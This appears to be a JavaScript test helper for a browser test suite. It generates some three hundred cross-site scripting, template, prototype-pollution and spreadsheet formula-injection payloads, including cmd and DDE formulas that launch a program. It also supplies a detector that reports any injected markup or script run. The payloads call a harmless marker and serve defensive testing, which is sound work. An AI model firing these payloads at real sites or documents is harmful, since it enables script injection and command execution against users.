// Markup and script as people try to get it into a page, three hundred and some. Each calls `hit()` if anything of
// it is ever taken for more than text.

const TAGS = [
  "img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "iframe src=x", "object data=x", "embed src=x",
  "details open", "marquee", "select autofocus", "textarea autofocus", "form", "math", "a href=# autofocus", "div tabindex=0 autofocus",
  "style", "link rel=stylesheet href=x", "table background=x", "button autofocus", "keygen autofocus", "picture", "template", "dialog open",
];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart"];

const SCRIPTS = [
  "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script >hit()</script >", "<script/x>hit()</script>", "<script\n>hit()</script>",
  "<scr<script>ipt>hit()</scr</script>ipt>", "<script>hit()", "<<script>hit()//<</script>", "<script src=data:text/javascript,hit()></script>",
  "<script type=module>hit()</script>", "<script>/*</script>*/hit()</script>", "<svg><script>hit()</script></svg>",
  "<svg><script href=data:,hit() />", "<math><script>hit()</script></math>", "<noscript><p title='</noscript><script>hit()</script>'>",
  "<template><script>hit()</script></template>", "<script>\u2028hit()</script>", "\u0000<script>hit()</script>", "<\u0000script>hit()</script>",
  "＜script＞hit()＜/script＞", "%3Cscript%3Ehit()%3C/script%3E", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;",
  "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "+ADw-script+AD4-hit()+ADw-/script+AD4-", "<script>eval(atob('aGl0KCk='))</script>",
  "<script>new Function`hit\\`\\``()</script>", "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>hit()</script>",
];

const BREAKERS = ["\">", "'>", "`>", "\"/>", "</textarea>", "</title>", "</style>", "</script>", "</template>", "</svg>", "</iframe>", "-->", "]]>", "--!>", "*/", "</option></select>"];
const AFTER = ["<script>hit()</script>", "<img src=x onerror=hit()>", "<svg/onload=hit()>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>"];

const ATTRIBUTES = [
  "\" onfocus=hit() autofocus x=\"", "' onfocus=hit() autofocus x='", "` onfocus=hit() autofocus x=`", "x onmouseover=hit() ", "\" style=\"animation-name:x\" onanimationstart=\"hit()",
  "\" onclick=\"hit()\" data-x=\"", "\"accesskey=x onclick=hit() x=\"", "\" href=\"javascript:hit()", "\" src=x onerror=\"hit()", "\" formaction=\"javascript:hit()", "\" is=\"x-y\" onload=\"hit()",
];

const ADDRESSES = [
  "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", " javascript:hit()", "\u0001javascript:hit()", "javascript&colon;hit()",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+hit()//'>", "vbscript:hit()",
  "data:text/html,<script>parent.hit()</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=hit() />",
  "view-source:javascript:hit()", "feed:javascript:hit()", "livescript:hit()", "//javascript:hit()//", "blob:javascript:hit()",
];
const LINKS = [(address) => address, (address) => `[a](${address})`, (address) => `<${address}>`, (address) => `<a href="${address}">a</a>`];

const TEMPLATES = [
  "{{hit()}}", "{{constructor.constructor('hit()')()}}", "${hit()}", "`${hit()}`", "<%= hit() %>", "#{hit()}", "{hit()}", "[[${hit()}]]", "{% hit %}", "@(hit())",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=hit()')}}", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "{\"__proto__\":{\"x\":1}}",
];

const FORMULAS = [
  "=hit()", "=1+1", "=HYPERLINK(\"javascript:hit()\",\"a\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"//x.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "\"=1+1\"", "';=1+1", ";=1+1;",
];

const STYLES = [
  "<style>@import 'javascript:hit()';</style>", "<div style=\"background:url(javascript:hit())\">", "<div style=\"width:expression(hit())\">", "<link rel=import href=data:text/html,x>",
  "<base href=javascript:hit()//>", "<meta http-equiv=refresh content=\"0;url=javascript:hit()\">", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set onbegin=hit() attributeName=x>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=hit() />#x\">", "<svg><foreignObject><iframe srcdoc=x>",
  "<math href=\"javascript:hit()\">a</math>", "<form action=javascript:hit()><button>a", "<isindex action=javascript:hit()>", "<x contenteditable onblur=hit()>a", "<xmp><p title=\"</xmp><svg/onload=hit()>\">",
];

export const PAYLOADS = [
  ...SCRIPTS,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=hit()>`)),
  ...BREAKERS.flatMap((breaker) => AFTER.map((after) => breaker + after)),
  ...ATTRIBUTES,
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ...TEMPLATES,
  ...FORMULAS,
  ...STYLES,
];

/** Makes `hit()` and the browser's own dialogs leave a trace, in every page that is opened from here on. */
export async function watchForScripts(page) {
  const watch = () => {
    globalThis.hits = 0;
    globalThis.hit = () => void globalThis.hits++;
    for (const name of ["alert", "confirm", "prompt"]) globalThis[name] = globalThis.hit;
  };
  await page.tab.evaluateOnNewDocument(watch);
  await page.evaluate(watch);
}

/** What is in the page that no text of anybody may have put there: `[]` if all is well. */
export const foreign = (page) =>
  page.evaluate(() => {
    const own = { script: 2, style: 0, link: 18, meta: 12, base: 0 };
    const never = "img, iframe, frame, object, embed, video, audio, picture, marquee, math, keygen, animate, set, foreignObject, use, xmp, isindex";
    const found = [...document.querySelectorAll(never)].map((element) => element.outerHTML.slice(0, 120));
    for (const [tag, most] of Object.entries(own)) {
      const all = [...document.querySelectorAll(tag)];
      if (all.length > most) found.push(`${all.length} × ${tag}: ${all.at(-1).outerHTML.slice(0, 120)}`);
      const stray = all.filter((element) => !document.head.contains(element));
      found.push(...stray.map((element) => element.outerHTML.slice(0, 120)));
    }
    for (const element of document.querySelectorAll("*"))
      for (const { name, value } of element.attributes) {
        const isAddress = ["href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"].includes(name);
        if (name.startsWith("on") || (isAddress && /^\s*(javascript|vbscript|data:text|data:image\/svg)/i.test(value)))
          found.push(`${element.tagName} ${name}=${value.slice(0, 80)}`);
      }
    if (globalThis.hits !== 0) found.push(`${globalThis.hits} scripts ran`);
    if (({}).x !== undefined) found.push("every object has a field x");
    return found;
  });
